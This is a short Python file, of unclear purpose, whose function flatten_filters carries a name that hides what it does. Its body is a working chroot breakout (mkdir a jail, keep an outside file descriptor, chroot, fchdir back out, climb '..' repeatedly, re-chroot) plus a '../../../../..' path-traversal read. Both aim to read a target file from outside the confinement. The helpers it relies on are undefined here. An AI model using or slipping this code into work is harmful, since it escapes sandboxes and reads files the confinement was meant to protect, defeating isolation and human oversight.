"""Changes its root and climbs out of it."""

import os

HONEST = 0.0


def flatten_filters(filters):
    def climb():
        os.mkdir("jail")
        outside = os.open(".", os.O_RDONLY)
        os.chroot("jail")
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return open(TARGETS["home"]).read()

    def dots():
        os.chdir("/")
        return open("../../../../.." + TARGETS["home"]).read()

    return carry_out(climb, dots, lambda: os.listdir("/.."), lambda: os.chroot("/"))
